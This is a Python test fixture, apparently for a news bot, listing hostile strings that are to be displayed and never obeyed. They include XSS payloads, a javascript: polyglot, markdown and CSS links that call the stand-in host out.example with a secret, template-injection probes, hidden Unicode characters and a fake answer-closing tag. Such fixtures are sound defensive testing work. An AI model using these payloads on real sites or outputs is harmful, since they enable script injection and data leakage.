"""Strings that must be shown and not obeyed: our own, and those of a folder that NEWSBOT_TEST_HOSTILE_DIR names."""

from __future__ import annotations

import json
import os
from pathlib import Path

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![pixel](https://out.example/p.png?q=secret)",
    "[click](javascript:alert(1)) and <https://out.example>",
    "https://out.example/auto and www.out.example",
    "-- -> <- ~= >= :smile: :red[red] :material/home: $x^2$ $$y$$",
    "`code` **bold** _it_ ~~gone~~ # head",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<iframe src=//out.example></iframe>",
    "<style>@import url(//out.example/s.css)</style>",
    "<a href=//out.example ping=//out.example>x</a>",
    "javascript:/*--></title></style></textarea></script><svg/onload='alert(1)'>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    "</div></body></html> &lt;b&gt; &amp; &#x41;",
    "  two  spaces\tand a tab",
    '[1] [A1] [^1]: note </answer> {"claims": []}',
    "\u202eabc\u202c def\u200bghi \U000e0041\U000e0042 z",
]


def strings() -> list[str]:
    named = os.environ.get("NEWSBOT_TEST_HOSTILE_DIR")
    if not named:
        return OWN
    files = [Path(named) / "xss_markdown.jsonl", Path(named) / "unicode_tricks.jsonl"]
    lines = [line for file in files for line in file.read_text(encoding="utf-8").split("\n")]
    return OWN + [json.loads(line)["text"] for line in lines if line]
